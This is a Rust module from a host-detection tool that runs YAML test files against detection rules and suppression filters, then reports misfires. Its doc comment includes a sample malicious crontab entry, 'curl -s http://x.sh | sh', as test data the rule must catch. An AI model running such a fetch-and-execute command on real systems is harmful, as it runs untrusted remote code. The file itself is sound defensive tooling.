//! Rule tests: `rules/tests/<rule name>.yml` holds events that must fire the rule
//! (`positive`) and events that must not (`negative`).
//!
//! Every rule must have a test file with at least one of each: a rule without a positive
//! test may never fire, and one without a negative test may fire on everything.
//!
//! ```yaml
//! config:                      # optional tripline.toml keys for this file
//!   office_networks: [10.0.0.0/8]
//! iocs:                        # optional IOC lists for this file: file name -> contents
//!   advisory.txt: |
//!     evil.example
//! positive:
//!   - name: pack/tripline-linux/crontab     # pack and query parsed from the name
//!     columns: {command: "curl -s http://x.sh | sh"}
//! negative:
//!   - query: crontab
//!     columns: {command: "/usr/sbin/logrotate"}
//!     derived: {stale: true}   # only stale/initial can be forced
//!   - query: crontab
//!     columns: {command: "/usr/sbin/logrotate"}
//!     time: null               # no time, as some forwarders send: placed by the object time
//! ```
//!
//! Each file runs with the default settings plus its own `config:` and `iocs:`, never the
//! user's `tripline.toml` or lists, so tests mean the same on every machine.
//!
//! Filters have tests of their own, `tests/<filter name>.yml` beside the filters, run by
//! [`run_filters`]: events a filter must suppress and events it must let through (see
//! [`FilterTestReport`]). [`layered_sources`] gives the rule tests of a pack with a site's rules.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::sync::Arc;

use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

use crate::config::Config;
use crate::event::{Action, Event, Kind, SourceRef};
use crate::fields::Fields;
use crate::ioc::IocSet;
use crate::mapping::Mapper;
use crate::rules::detector::{Detector, Outcome, RuleOutcome};
use crate::rules::filters::FilterSet;
use crate::rules::{builtin, LoadError, RuleSet};
use crate::tables::{Resolution, Resolver, Row, TablesFrom};

/// Default event time for test events, and the object time for those with `time: null`:
/// fixed, so windows and ids are reproducible.
pub const DEFAULT_TEST_TIME: i64 = 1_704_067_200; // 2024-01-01T00:00:00Z
/// Default host for test events.
pub const DEFAULT_TEST_HOST: &str = "test-host";

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct RawTestFile {
    /// Accepted so test files can document themselves; not used.
    #[serde(default)]
    #[allow(dead_code)]
    description: Option<String>,
    #[serde(default)]
    config: Option<Value>,
    /// IOC lists for this file: file name (its extension gives the format, its stem the
    /// list's name) to contents, loaded as [`IocSet::from_sources_at`] loads a site's.
    #[serde(default)]
    iocs: BTreeMap<String, String>,
    #[serde(default)]
    positive: Vec<TestEvent>,
    #[serde(default)]
    negative: Vec<TestEvent>,
}

/// A partial event; unset fields take test defaults.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct TestEvent {
    /// Free text shown in failure messages.
    #[serde(default)]
    pub description: Option<String>,
    /// The query name as osquery logs it (`pack/<pack>/<query>`, `pack_<pack>_<query>` or
    /// plain); `pack` and `query` are read from it unless given.
    pub name: Option<String>,
    /// The pack; with `query` and no `name`, the name is `pack/<pack>/<query>`.
    pub pack: Option<String>,
    /// The query; without `name`, one of the two is required.
    pub query: Option<String>,
    /// Defaults to [`DEFAULT_TEST_HOST`].
    pub host: Option<String>,
    /// `added` (default), `removed` or `snapshot`.
    pub action: Option<String>,
    /// The row's columns.
    #[serde(default)]
    pub columns: Map<String, Value>,
    /// The row's decorations.
    #[serde(default)]
    pub decorations: Map<String, Value>,
    /// Defaults to 1 (not a first run).
    pub counter: Option<i64>,
    /// RFC 3339 or unix seconds; defaults to [`DEFAULT_TEST_TIME`]. `null` gives the event
    /// no time (as minimal test events and some forwarders have none): it is then placed
    /// by the object time, which rule tests set to [`DEFAULT_TEST_TIME`].
    #[serde(default, deserialize_with = "present")]
    pub time: Option<Value>,
    /// Forced values for `derived.stale` and `derived.initial`, whatever the row says.
    pub derived: Option<DerivedOverride>,
    /// The row's osquery tables; by default worked out as the decoder does (the built-in
    /// registry of public queries, then the columns).
    #[serde(default)]
    pub tables: Option<Vec<String>>,
}

/// The derived fields a test may force, for rows whose real trigger (old timestamps,
/// counter 0) is awkward to write.
#[derive(Debug, Clone, Copy, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct DerivedOverride {
    /// Forces `derived.stale`.
    pub stale: Option<bool>,
    /// Forces `derived.initial`.
    pub initial: Option<bool>,
}

fn builtin_resolver() -> &'static Resolver {
    static RESOLVER: std::sync::OnceLock<Resolver> = std::sync::OnceLock::new();
    RESOLVER.get_or_init(Resolver::builtin)
}

impl TestEvent {
    /// Builds the full event (pack/query from `name` when not given).
    pub fn to_event(&self, label: &str) -> Result<Event, String> {
        let (name, pack, query) = match (&self.name, &self.pack, &self.query) {
            (Some(n), p, q) => {
                let (pp, pq) = crate::query_name::parse(n);
                (
                    Some(n.clone()),
                    p.clone().or(pp.map(str::to_string)),
                    q.clone().or(Some(pq.to_string())),
                )
            }
            (None, p, Some(q)) => {
                let name = match p {
                    Some(p) => format!("pack/{p}/{q}"),
                    None => q.clone(),
                };
                (Some(name), p.clone(), Some(q.clone()))
            }
            (None, _, None) => return Err("needs `name` or `query`".into()),
        };
        let action = match self.action.as_deref() {
            None => Action::Added,
            Some(a) => Action::parse(a)
                .ok_or_else(|| format!("action {a:?} is not added, removed or snapshot"))?,
        };
        let unix_time = match &self.time {
            None => Some(DEFAULT_TEST_TIME),
            Some(Value::Null) => None,
            Some(Value::Number(n)) => Some(
                n.as_i64()
                    .ok_or_else(|| format!("time {n} is not whole unix seconds"))?,
            ),
            Some(Value::String(s)) => Some(
                crate::rfc3339::parse(s)
                    .or_else(|| s.parse().ok())
                    .ok_or_else(|| format!("time {s:?} is neither RFC 3339 nor unix seconds"))?,
            ),
            Some(other) => {
                return Err(format!("time {other} is neither RFC 3339 nor unix seconds"))
            }
        };
        let columns = Fields::from(&self.columns);
        let decorations = Fields::from(&self.decorations);
        let resolved = match &self.tables {
            Some(tables) => Resolution {
                tables: tables.clone().into(),
                from: Some(TablesFrom::Sql),
                ambiguous: false,
            },
            None => {
                let names: Vec<&str> = columns.keys().collect();
                let row = Row {
                    name: name.as_deref(),
                    pack: pack.as_deref(),
                    query: query.as_deref(),
                    platform: crate::derive::declared_platform(&decorations, pack.as_deref()),
                };
                builtin_resolver().resolve(row, &names)
            }
        };
        Ok(Event {
            kind: Kind::Result,
            name,
            pack,
            query,
            tables: resolved.tables,
            tables_from: resolved.from,
            tables_ambiguous: resolved.ambiguous,
            host: Some(
                self.host
                    .clone()
                    .unwrap_or_else(|| DEFAULT_TEST_HOST.to_string()),
            ),
            action: Some(action),
            indicators: crate::indicators::extract(&columns),
            columns,
            decorations,
            time: unix_time.map(crate::rfc3339::format),
            unix_time,
            epoch: Some(0),
            counter: Some(self.counter.unwrap_or(1)),
            numerics: false,
            severity: None,
            filename: None,
            line: None,
            message: None,
            version: None,
            source: SourceRef {
                path: Some(label.to_string()),
                ..SourceRef::default()
            },
            id: label.to_string(),
            attack: Default::default(),
        })
    }

    fn summary(&self) -> String {
        if let Some(d) = &self.description {
            return d.clone();
        }
        let q = self
            .query
            .as_deref()
            .or(self.name.as_deref())
            .unwrap_or("?");
        let cols = serde_json::to_string(&self.columns).unwrap_or_default();
        let mut s = format!("{q} {cols}");
        if s.chars().count() > 120 {
            s = s.chars().take(119).collect::<String>() + "…";
        }
        s
    }
}

/// Deserializes a field that is present, `null` included, as `Some`: with `#[serde(default)]`
/// an absent field stays `None`, so `time: null` (no time) differs from no `time:` (the
/// default time).
fn present<'de, D: serde::Deserializer<'de>>(d: D) -> Result<Option<Value>, D::Error> {
    Value::deserialize(d).map(Some)
}

/// The result for one rule.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct RuleTestResult {
    /// The rule's name.
    pub rule: String,
    /// The test file, if there is one.
    pub file: Option<String>,
    /// Positive test events in its file (each must fire the rule).
    pub positives: usize,
    /// Negative test events in its file (none may fire it).
    pub negatives: usize,
    /// What went wrong, one message per failure; empty when the rule passed.
    pub failures: Vec<String>,
}

impl RuleTestResult {
    /// Whether the rule's tests all passed.
    pub fn passed(&self) -> bool {
        self.failures.is_empty()
    }
}

/// Results for a whole rule set.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct TestReport {
    /// One entry per rule, in rule-name order.
    pub rules: Vec<RuleTestResult>,
    /// Problems not attributable to a loaded rule (test files for unknown rules, unreadable
    /// test files).
    pub orphans: Vec<String>,
}

impl TestReport {
    /// Whether every rule passed and no test file was an orphan.
    pub fn passed(&self) -> bool {
        self.orphans.is_empty() && self.rules.iter().all(RuleTestResult::passed)
    }

    /// How many rules failed.
    pub fn failed_rules(&self) -> usize {
        self.rules.iter().filter(|r| !r.passed()).count()
    }
}

/// The built-in test files (`rules/tests/`), embedded at build time.
pub fn builtin_sources() -> Vec<(String, String)> {
    builtin::RULE_TESTS
        .iter()
        .map(|(n, t)| (n.to_string(), t.to_string()))
        .collect()
}

/// Reads every `*.yml`/`*.yaml` file directly in `dir`.
pub fn read_dir(dir: impl AsRef<Path>) -> Result<Vec<(String, String)>, LoadError> {
    let dir = dir.as_ref();
    let io = |error| LoadError::Io {
        path: dir.display().to_string(),
        error,
    };
    let mut files = Vec::new();
    for entry in std::fs::read_dir(dir).map_err(io)? {
        let path = entry.map_err(io)?.path();
        let is_yaml = matches!(
            path.extension().and_then(|e| e.to_str()),
            Some("yml" | "yaml")
        );
        if path.is_file() && is_yaml {
            files.push(path);
        }
    }
    files.sort();
    let mut out = Vec::new();
    for path in files {
        let text = std::fs::read_to_string(&path).map_err(|error| LoadError::Io {
            path: path.display().to_string(),
            error,
        })?;
        out.push((path.display().to_string(), text));
    }
    Ok(out)
}

/// What the detector made of one test event: its outcome per matching rule.
fn outcomes(detector: &mut Detector, te: &TestEvent, id: &str) -> Result<Vec<RuleOutcome>, String> {
    let mut event = te.to_event(id)?;
    detector.annotate(&mut event);
    let mut derived = detector.derive(&event);
    if let Some(o) = te.derived {
        derived.stale = o.stale.unwrap_or(derived.stale);
        derived.initial = o.initial.unwrap_or(derived.initial);
    }
    Ok(detector.evaluate(&event, derived))
}

/// Runs the test files `(file label, YAML)` against the rule set. A file belongs to the rule
/// named by its file stem.
pub fn run(
    rules: &Arc<RuleSet>,
    mapper: Option<Arc<Mapper>>,
    files: &[(String, String)],
) -> TestReport {
    let mut by_rule: BTreeMap<String, RuleTestResult> = rules
        .rules()
        .iter()
        .map(|r| {
            (
                r.name.clone(),
                RuleTestResult {
                    rule: r.name.clone(),
                    file: None,
                    positives: 0,
                    negatives: 0,
                    failures: Vec::new(),
                },
            )
        })
        .collect();
    let mut orphans = Vec::new();
    let mut seen = BTreeSet::new();

    for (label, text) in files {
        let stem = Path::new(label)
            .file_stem()
            .and_then(|s| s.to_str())
            .unwrap_or_default()
            .to_string();
        let Some(result) = by_rule.get_mut(&stem) else {
            orphans.push(format!("{label}: no rule named {stem:?}"));
            continue;
        };
        if !seen.insert(stem.clone()) {
            result
                .failures
                .push(format!("{label}: a second test file for this rule"));
            continue;
        }
        result.file = Some(label.clone());
        let raw: RawTestFile = match yaml_serde::from_str(text) {
            Ok(r) => r,
            Err(e) => {
                result
                    .failures
                    .push(format!("{label}: invalid test file: {e}"));
                continue;
            }
        };
        let config = match &raw.config {
            None => Config::default(),
            Some(v) => match Config::from_json_value(v) {
                Ok(c) => c,
                Err(e) => {
                    result.failures.push(format!("{label}: config: {e}"));
                    continue;
                }
            },
        };
        result.positives = raw.positive.len();
        result.negatives = raw.negative.len();
        if raw.positive.is_empty() {
            result
                .failures
                .push(format!("{label}: no positive events (need at least one)"));
        }
        if raw.negative.is_empty() {
            result
                .failures
                .push(format!("{label}: no negative events (need at least one)"));
        }
        let mut detector = Detector::new(Arc::clone(rules), mapper.clone(), config)
            .with_object_time(DEFAULT_TEST_TIME);
        if !raw.iocs.is_empty() {
            // Expiry is judged at the fixed test time, so the tests mean the same every day.
            match IocSet::from_sources_at(&raw.iocs, DEFAULT_TEST_TIME) {
                Ok(set) => detector = detector.with_iocs(Arc::new(set)),
                Err(e) => {
                    result.failures.push(format!("{label}: iocs: {e}"));
                    continue;
                }
            }
        }
        for (kind, events, want) in [
            ("positive", &raw.positive, true),
            ("negative", &raw.negative, false),
        ] {
            for (i, te) in events.iter().enumerate() {
                let id = format!("{label}#{kind}[{i}]");
                let what = format!("{kind} #{} ({})", i + 1, te.summary());
                let outcome = match outcomes(&mut detector, te, &id) {
                    Ok(o) => o.into_iter().find(|o| o.rule == stem).map(|o| o.outcome),
                    Err(m) => {
                        result.failures.push(format!("{what}: {m}"));
                        continue;
                    }
                };
                match (want, outcome) {
                    (true, Some(Outcome::Counted)) | (false, None) => {}
                    (true, None) => result.failures.push(format!("{what}: did not match")),
                    (true, Some(Outcome::SuppressedStale)) => result.failures.push(format!(
                        "{what}: matched but was suppressed as a stale history row \
                         (set `tripline.stale: true` or give the row a recent time)"
                    )),
                    (true, Some(Outcome::SuppressedInitial)) => result.failures.push(format!(
                        "{what}: matched but was suppressed as a first-run row (counter 0)"
                    )),
                    (true, Some(Outcome::Error(m))) => {
                        result.failures.push(format!("{what}: matched but {m}"))
                    }
                    // Rule tests run without filters; kept for completeness.
                    (true, Some(Outcome::SuppressedByFilter(f))) => result
                        .failures
                        .push(format!("{what}: matched but filter {f} suppressed it")),
                    // A suppressed or failed match on a negative still means "does not fire".
                    (false, Some(Outcome::Counted)) => {
                        result.failures.push(format!("{what}: fired but must not"))
                    }
                    (false, Some(_)) => {}
                }
            }
        }
    }
    for result in by_rule.values_mut() {
        if result.file.is_none() {
            result
                .failures
                .push(format!("no test file (expected tests/{}.yml)", result.rule));
        }
    }
    TestReport {
        rules: by_rule.into_values().collect(),
        orphans,
    }
}

/// The test files of a rule set layered from a base and a site ([`RuleSet::layered`]): the
/// base's, less those of rules the site disabled and those a site test file of the same
/// name replaces (a site that replaces a rule may replace its tests; if it does not, the
/// base's tests hold the replacement to the same events), then the site's.
pub fn layered_sources(
    base: Vec<(String, String)>,
    site: Vec<(String, String)>,
    rules: &RuleSet,
) -> Vec<(String, String)> {
    let stem = |label: &str| {
        Path::new(label)
            .file_stem()
            .and_then(|s| s.to_str())
            .unwrap_or_default()
            .to_string()
    };
    let site_stems: BTreeSet<String> = site.iter().map(|(l, _)| stem(l)).collect();
    let mut out: Vec<(String, String)> = base
        .into_iter()
        .filter(|(l, _)| {
            let s = stem(l);
            !site_stems.contains(&s) && !rules.disabled().contains(&s)
        })
        .collect();
    out.extend(site);
    out
}

/// A filter's test file, `tests/<filter name>.yml` next to the filters:
///
/// ```yaml
/// config:          # optional tripline.toml keys for this file, as in rule tests
///   office_networks: [10.0.0.0/8]
/// suppress:        # events one of the filter's rules fires on, and the filter suppresses
///   - name: pack/Global/keyboard_event_taps
///     columns: {path: /Applications/BetterTouchTool.app/Contents/MacOS/BetterTouchTool, ...}
/// keep:            # events one of its rules fires on that the filter lets through
///   - name: pack/Global/keyboard_event_taps
///     columns: {path: /Users/jdoe/Downloads/BetterTouchTool, ...}
/// ```
///
/// Both lists are required: a filter without a `suppress` event may suppress nothing, and
/// one without a `keep` event may suppress everything. The events are [`TestEvent`]s, as
/// in rule tests. Each file runs with that filter alone.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct RawFilterTestFile {
    #[serde(default)]
    #[allow(dead_code)]
    description: Option<String>,
    #[serde(default)]
    config: Option<Value>,
    #[serde(default)]
    suppress: Vec<TestEvent>,
    #[serde(default)]
    keep: Vec<TestEvent>,
}

/// The result for one filter.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct FilterTestResult {
    /// The filter's name.
    pub filter: String,
    /// The test file, if there is one.
    pub file: Option<String>,
    /// `suppress` events in its file (each must be suppressed by it).
    pub suppress: usize,
    /// `keep` events in its file (each must alert despite it).
    pub keep: usize,
    /// Why its events were not run (an expired filter applies to nothing), if they weren't.
    pub skipped: Option<String>,
    /// What went wrong, one message per failure; empty when the filter passed.
    pub failures: Vec<String>,
}

impl FilterTestResult {
    /// Whether the filter's tests all passed (or were skipped).
    pub fn passed(&self) -> bool {
        self.failures.is_empty()
    }
}

/// Results for a whole filter set.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct FilterTestReport {
    /// One entry per filter, in filter-name order.
    pub filters: Vec<FilterTestResult>,
    /// Test files for no filter, and unreadable ones.
    pub orphans: Vec<String>,
}

impl FilterTestReport {
    /// Whether every filter passed and no test file was an orphan.
    pub fn passed(&self) -> bool {
        self.orphans.is_empty() && self.filters.iter().all(FilterTestResult::passed)
    }

    /// How many filters failed.
    pub fn failed_filters(&self) -> usize {
        self.filters.iter().filter(|r| !r.passed()).count()
    }
}

/// Runs filter test files `(file label, YAML)`: a file belongs to the filter named by its
/// file stem, and runs against `rules` with that filter alone.
pub fn run_filters(
    rules: &Arc<RuleSet>,
    mapper: Option<Arc<Mapper>>,
    filters: &FilterSet,
    files: &[(String, String)],
) -> FilterTestReport {
    let mut by_filter: BTreeMap<String, FilterTestResult> = filters
        .filters()
        .iter()
        .map(|f| {
            let result = FilterTestResult {
                filter: f.name().to_string(),
                file: None,
                suppress: 0,
                keep: 0,
                skipped: (!f.is_active()).then(|| {
                    format!(
                        "expired on {}",
                        f.expires().map(|d| d.to_string()).unwrap_or_default()
                    )
                }),
                failures: Vec::new(),
            };
            (f.name().to_string(), result)
        })
        .collect();
    let mut orphans = Vec::new();
    let mut seen = BTreeSet::new();

    for (label, text) in files {
        let stem = Path::new(label)
            .file_stem()
            .and_then(|s| s.to_str())
            .unwrap_or_default()
            .to_string();
        let (Some(result), Some(filter)) = (by_filter.get_mut(&stem), filters.get(&stem)) else {
            orphans.push(format!("{label}: no filter named {stem:?}"));
            continue;
        };
        let fail = |result: &mut FilterTestResult, m: String| result.failures.push(m);
        if !seen.insert(stem.clone()) {
            fail(
                result,
                format!("{label}: a second test file for this filter"),
            );
            continue;
        }
        result.file = Some(label.clone());
        let raw: RawFilterTestFile = match yaml_serde::from_str(text) {
            Ok(r) => r,
            Err(e) => {
                fail(result, format!("{label}: invalid test file: {e}"));
                continue;
            }
        };
        let config = match &raw.config {
            None => Config::default(),
            Some(v) => match Config::from_json_value(v) {
                Ok(c) => c,
                Err(e) => {
                    fail(result, format!("{label}: config: {e}"));
                    continue;
                }
            },
        };
        result.suppress = raw.suppress.len();
        result.keep = raw.keep.len();
        if raw.suppress.is_empty() {
            fail(
                result,
                format!("{label}: no `suppress` events (need at least one)"),
            );
        }
        if raw.keep.is_empty() {
            fail(
                result,
                format!("{label}: no `keep` events (need at least one)"),
            );
        }
        if result.skipped.is_some() {
            continue;
        }
        let mut detector = Detector::new(Arc::clone(rules), mapper.clone(), config)
            .with_object_time(DEFAULT_TEST_TIME)
            .with_filters(Arc::new(filters.only(&stem)));
        let targets = filter.rules();
        for (kind, events, suppress) in [
            ("suppress", &raw.suppress, true),
            ("keep", &raw.keep, false),
        ] {
            for (i, te) in events.iter().enumerate() {
                let id = format!("{label}#{kind}[{i}]");
                let what = format!("{kind} #{} ({})", i + 1, te.summary());
                let outcomes: Vec<RuleOutcome> = match outcomes(&mut detector, te, &id) {
                    Ok(o) => o
                        .into_iter()
                        .filter(|o| targets.contains(&o.rule))
                        .collect(),
                    Err(m) => {
                        fail(result, format!("{what}: {m}"));
                        continue;
                    }
                };
                if outcomes.is_empty() {
                    fail(
                        result,
                        format!(
                            "{what}: none of the filter's rules ({}) fired on it; a filter's \
                             test events must be ones its rules fire on",
                            targets.join(", ")
                        ),
                    );
                    continue;
                }
                for o in outcomes {
                    let rule = &o.rule;
                    match (suppress, o.outcome) {
                        (true, Outcome::SuppressedByFilter(_)) | (false, Outcome::Counted) => {}
                        (true, Outcome::Counted) => fail(
                            result,
                            format!("{what}: {rule} fired; the filter did not suppress it"),
                        ),
                        (false, Outcome::SuppressedByFilter(_)) => fail(
                            result,
                            format!("{what}: the filter suppressed {rule}, which must fire"),
                        ),
                        (_, Outcome::SuppressedStale) => fail(
                            result,
                            format!(
                                "{what}: {rule} matched, but as a stale history row it was \
                                 dropped before any filter (give the row a recent time)"
                            ),
                        ),
                        (_, Outcome::SuppressedInitial) => fail(
                            result,
                            format!(
                                "{what}: {rule} matched, but as a first-run row (counter 0) it \
                                 was dropped before any filter"
                            ),
                        ),
                        (_, Outcome::Error(m)) => {
                            fail(result, format!("{what}: {rule} matched but {m}"))
                        }
                    }
                }
            }
        }
    }
    for result in by_filter.values_mut() {
        if result.file.is_none() {
            result.failures.push(format!(
                "no test file (expected tests/{}.yml next to the filters)",
                result.filter
            ));
        }
    }
    FilterTestReport {
        filters: by_filter.into_values().collect(),
        orphans,
    }
}
